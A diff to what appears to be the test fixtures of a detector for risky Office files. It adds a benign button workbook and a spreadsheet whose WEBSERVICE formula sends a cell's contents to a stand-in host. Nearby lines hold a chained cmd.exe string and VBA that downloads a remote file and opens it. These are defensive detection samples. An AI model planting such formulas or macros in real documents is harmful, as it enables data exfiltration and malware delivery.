@@ -99,6 +99,33 @@ fn box_in_a_letter() -> Vec<u8> {
     control(letter, "word", &text_box("cmd.exe /c echo inert & ")).build()
 }
 
+/// A button of the forms of old, which is no ActiveX control.
+fn old_button() -> Vec<u8> {
+    let sheet = format!(
+        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"{RELATIONSHIPS}\">\
+         <sheetData/><controls><control shapeId=\"1025\" r:id=\"rId1\" name=\"Button 1\"/></controls></worksheet>"
+    );
+    let part = b"<formControlPr xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" objectType=\"Button\"/>";
+    Package::workbook(
+        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
+        "<sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/></sheets>",
+    )
+    .related(&format!("{RELATIONSHIPS}/worksheet"), "worksheets/sheet1.xml", false)
+    .part(
+        "xl/worksheets/sheet1.xml",
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
+        sheet.as_bytes(),
+    )
+    .part(
+        "xl/worksheets/_rels/sheet1.xml.rels",
+        RELS,
+        relationship(&format!("{RELATIONSHIPS}/ctrlProp"), "../ctrlProps/ctrlProp1.xml").as_bytes(),
+    )
+    .part("xl/ctrlProps/ctrlProp1.xml", "application/vnd.ms-excel.controlproperties+xml", part)
+    .macros(&vba_project(&[Module::standard("Module1", super::ooxml::SUMS)]))
+    .build()
+}
+
 /// A ribbon under a name and of a kind that nobody would guess.
 fn ribbon_elsewhere() -> Vec<u8> {
     let source = format!("Sub Ready(ribbon)\n{STARTS}\nEnd Sub");
@@ -130,6 +157,23 @@ Dim f As String
 f = Environ(\"TEMP\") & \"\\syukujitsu.csv\"
 If URLDownloadToFile(0, \"https://holidays.example/syukujitsu.csv\", f, 0, 0) = 0 Then Workbooks.Open f";
 
+/// A cell that sends another to a server.
+fn web_service() -> Vec<u8> {
+    let sheet = "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\">\
+                 <f>_xlfn.WEBSERVICE(\"https://host.example/?\"&amp;B1)</f><v>0</v></c></row></sheetData></worksheet>";
+    Package::workbook(
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
+        "<sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/></sheets>",
+    )
+    .related(&format!("{RELATIONSHIPS}/worksheet"), "worksheets/sheet1.xml", false)
+    .part(
+        "xl/worksheets/sheet1.xml",
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
+        sheet.as_bytes(),
+    )
+    .build()
+}
+
 pub(crate) fn fixtures() -> Vec<Fixture> {
     let declared = |name: &str, rest: &str| {
         Module::standard("Api", &format!("Public Declare PtrSafe Function {name} {rest} As Long"))
@@ -145,8 +189,10 @@ pub(crate) fn fixtures() -> Vec<Fixture> {
     let later = Module::standard("Module1", &format!("Sub Later()\n{STARTS}\nEnd Sub"));
     let form = Module::form("Panel", &format!("Private Sub UserForm_Layout()\n{STARTS}\nEnd Sub"));
     vec![
+        Fixture::new("xlsm-honest-old-button", "sums.xlsm", old_button()).honest(),
         Fixture::new("xlsm-control-text", "order.xlsm", box_on_a_sheet()),
         Fixture::new("docm-control-text", "order.docm", box_in_a_letter()),
+        Fixture::new("xlsx-formula-fetches", "prices.xlsx", web_service()),
         Fixture::new("xlsm-ribbon-elsewhere", "tools.xlsm", ribbon_elsewhere()),
         Fixture::new(
             "xlsm-event-property",
